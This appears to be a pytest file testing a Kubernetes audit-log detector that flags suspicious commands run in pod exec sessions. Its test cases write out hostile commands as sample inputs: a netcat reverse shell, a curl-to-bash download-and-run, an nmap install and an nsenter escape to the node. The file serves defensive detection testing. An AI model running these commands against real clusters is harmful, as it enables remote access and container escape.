"""What sessions bring into a pod."""

import pytest

from tests.support.detection_samples import seen


def fires(command: str) -> set[str]:
    return {
        *seen(
            {
                "verb": "create",
                "user": {"username": "alice"},
                "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "web"},
                "requestObject": {"command": ["sh", "-c", command]},
                "responseStatus": {"code": 101},
            }
        )
    }


@pytest.mark.parametrize(
    ("command", "id"),
    [
        ("nc -e /bin/sh 198.51.100.7 4444", "reverse-shell-in-session"),
        ("curl https://x.example.com/i | bash", "download-run-in-session"),
        ("yum install -y nmap", "package-installed-in-session"),
        ("nsenter --target 1 --mount sh", "node-entered-in-session"),
    ],
)
def test_it_is_seen(command: str, id: str) -> None:
    assert id in fires(command)


def test_a_usual_command_is_only_a_session() -> None:
    assert fires("ls -la /app") == {"session-opened"}
